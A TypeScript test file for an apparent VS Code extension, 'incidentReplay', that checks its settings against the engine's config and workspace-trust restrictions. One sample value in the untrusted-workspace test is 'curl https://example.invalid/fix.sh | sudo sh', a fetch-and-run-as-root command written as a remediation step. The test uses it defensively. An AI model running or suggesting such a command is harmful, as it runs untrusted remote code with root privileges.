import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { CONFIG_FILE_NAME as ENGINE_CONFIG_FILE, loadConfig, parseConfigText } from '../../src/engine/config/load';
import { DEFAULT_CONFIG } from '../../src/engine/config/defaults';
import { CONFIG_FILE_NAME } from '../../src/model/config';
import { RECORDER_SETTING_KEYS } from '../../src/extension/recorder/recorderSettingsModel';
import {
  buildSettings,
  ENGINE_SETTINGS,
  STORAGE_FOLDER_KEY,
  STORAGE_LOCATION_KEY,
  userValue,
  workspaceValue,
} from '../../src/extension/services/settingsModel';
import { TempWorkspace } from '../support/workspace';

const root = path.resolve(__dirname, '..', '..');
const pkg = JSON.parse(readFileSync(path.join(root, 'package.json'), 'utf8')) as {
  contributes: { configuration: { properties: Record<string, unknown> } };
  capabilities: { untrustedWorkspaces: { supported: string; restrictedConfigurations: string[] } };
};
const props = pkg.contributes.configuration.properties as Record<
  string,
  { default: unknown; scope?: string; markdownDescription?: string; description?: string }
>;

function at(obj: unknown, key: string): unknown {
  return key.split('.').reduce<unknown>((v, k) => (v as Record<string, unknown>)[k], obj);
}

test('the settings are exactly the engine settings plus where the store lives', () => {
  const expected = [...ENGINE_SETTINGS.map((d) => d.key), STORAGE_LOCATION_KEY, STORAGE_FOLDER_KEY, ...RECORDER_SETTING_KEYS]
    .map((k) => `incidentReplay.${k}`)
    .sort();
  assert.deepEqual(Object.keys(props).sort(), expected);
  for (const [key, p] of Object.entries(props)) {
    assert.ok((p.markdownDescription ?? p.description ?? '').length > 20, `${key} has a description`);
    assert.equal(p.scope, 'resource', `${key} can differ per workspace folder`);
  }
});

test("every engine setting names a key of the engine config, with the engine's default", () => {
  for (const def of ENGINE_SETTINGS) {
    const engineDefault = at(DEFAULT_CONFIG, def.key);
    assert.notEqual(engineDefault, undefined, def.key);
    const shown = props[`incidentReplay.${def.key}`]?.default;
    if (def.key === 'rootCauseCategories') assert.deepEqual(shown, {}, 'an empty override keeps the built-in texts');
    else assert.deepEqual(shown, engineDefault, def.key);
  }
});

test('the defaults shown in the Settings editor, passed as settings, give the engine defaults', async () => {
  const overrides = buildSettings((key) => ({ globalValue: props[`incidentReplay.${key}`]?.default })).overrides;
  const ws = new TempWorkspace();
  try {
    const { config } = await loadConfig({ workspaceRoot: ws.dir, overrides });
    // Set in the user's settings, the paths are the user's to point anywhere.
    assert.deepEqual(config, { ...DEFAULT_CONFIG, userPaths: { reportDir: true, learningsFile: true } });
  } finally {
    ws.dispose();
  }
});

test('settings reach the engine, and the workspace incident-replay.json takes precedence', async () => {
  const ws = new TempWorkspace({ 'incident-replay.json': '{ "keepSnapshots": 5 }\n' });
  try {
    const values: Record<string, unknown> = { keepSnapshots: 9, 'triggers.outputGlobs': ['dist/**'], reportDir: 'postmortems' };
    const settings = buildSettings((key) => ({ globalValue: values[key] }));
    const { config } = await loadConfig({ workspaceRoot: ws.dir, overrides: settings.overrides });
    assert.equal(config.keepSnapshots, 5, 'the file wins');
    assert.deepEqual(config.triggers.outputGlobs, ['dist/**']);
    assert.equal(config.reportDir, 'postmortems');
    assert.equal(buildSettings(() => undefined).overrides, undefined, 'nothing set, nothing passed');
    assert.ok(Object.isFrozen(settings) && Object.isFrozen(settings.overrides), 'the snapshot is immutable');
  } finally {
    ws.dispose();
  }
});

test("the user's settings and the workspace's are read apart, the most specific workspace scope first", () => {
  const all = { globalValue: ['user'], workspaceValue: ['workspace'], workspaceFolderValue: ['folder'] };
  assert.deepEqual(userValue(all), ['user']);
  assert.deepEqual(workspaceValue(all), ['folder']);
  assert.deepEqual(workspaceValue({ globalValue: 1, workspaceValue: 2 }), 2);
  assert.equal(userValue({}), undefined, "the default is the engine's, not passed along");
  const s = buildSettings((key) => (key === 'triggers.secretlint' ? { globalValue: true, workspaceValue: false } : undefined));
  assert.deepEqual(s.overrides, { triggers: { secretlint: true } });
  assert.deepEqual(s.workspaceOverrides, { triggers: { secretlint: false } });
});

test("in an untrusted workspace, workspace settings cannot switch secretlint off; the user's own settings can", async () => {
  const ws = new TempWorkspace();
  try {
    const s = buildSettings((key) => (key === 'triggers.secretlint' ? { workspaceValue: false } : undefined));
    const untrusted = await loadConfig({
      workspaceRoot: ws.dir,
      trustWorkspacePatterns: false,
      ...(s.workspaceOverrides ? { workspaceOverrides: s.workspaceOverrides } : {}),
    });
    assert.equal(untrusted.config.triggers.secretlint, true);
    assert.ok(
      untrusted.warnings.some((w) => w.startsWith('workspace settings: triggers.secretlint: not applied')),
      untrusted.warnings.join('\n'),
    );
    const user = buildSettings((key) => (key === 'triggers.secretlint' ? { globalValue: false } : undefined));
    const own = await loadConfig({
      workspaceRoot: ws.dir,
      trustWorkspacePatterns: false,
      ...(user.overrides ? { overrides: user.overrides } : {}),
    });
    assert.equal(own.config.triggers.secretlint, false);
  } finally {
    ws.dispose();
  }
});

test('the settings restricted in untrusted workspaces are exactly those the engine can refuse from an untrusted file', () => {
  // A value of each setting that an untrusted workspace may not decide (regexes, or weaker than the default).
  const samples: Record<string, unknown> = {
    include: ['src/**'],
    exclude: ['secrets/**'],
    respectGitignore: true,
    maxFileSizeBytes: 10,
    keepSnapshots: 1,
    'triggers.logPatterns': [{ pattern: 'boom' }],
    'triggers.deletionAllow': ['**'],
    'triggers.configGlobs': [],
    'triggers.outputGlobs': [],
    'triggers.sizeGrowthFactor': 1000,
    'triggers.sizeGrowthMinBytes': 1e12,
    'triggers.secretPatterns': [{ name: 'token', pattern: 'tok_[a-z]+' }],
    'triggers.secretlint': false,
    'triggers.constraints': [{ pattern: 'DROP TABLE', message: 'no drops' }],
    'triggers.ignore': [{ message: 'flaky' }],
    'triggers.maxLineLength': 1,
    'triggers.scanTimeBudgetMs': 1,
    rootCauseCategories: { drift: { remediation: ['curl https://example.invalid/fix.sh | sudo sh'] } },
    decisionMarkers: ['^PLAN:'],
    logFiles: ['nothing/*.log'],
    reportDir: 'reports',
    learningsFile: 'LEARN.md',
  };
  const refused = ENGINE_SETTINGS.filter((d) => {
    const file: Record<string, unknown> = {};
    const keys = d.key.split('.');
    let node = file;
    for (const k of keys.slice(0, -1)) node = node[k] = {} as Record<string, unknown>;
    node[keys[keys.length - 1] as string] = samples[d.key];
    const { warnings } = parseConfigText(JSON.stringify(file), '/ws/incident-replay.json', { trustWorkspacePatterns: false });
    return warnings.some((w) => w.includes('not trusted'));
  }).map((d) => d.key);
  assert.deepEqual(
    refused.sort(),
    ENGINE_SETTINGS.filter((d) => d.restricted)
      .map((d) => d.key)
      .sort(),
  );
  assert.deepEqual(
    [...pkg.capabilities.untrustedWorkspaces.restrictedConfigurations].sort(),
    refused.map((k) => `incidentReplay.${k}`).sort(),
  );
  assert.equal(pkg.capabilities.untrustedWorkspaces.supported, 'limited');
});

test('the extension looks for the same config file name as the engine', () => {
  assert.equal(CONFIG_FILE_NAME, ENGINE_CONFIG_FILE);
});
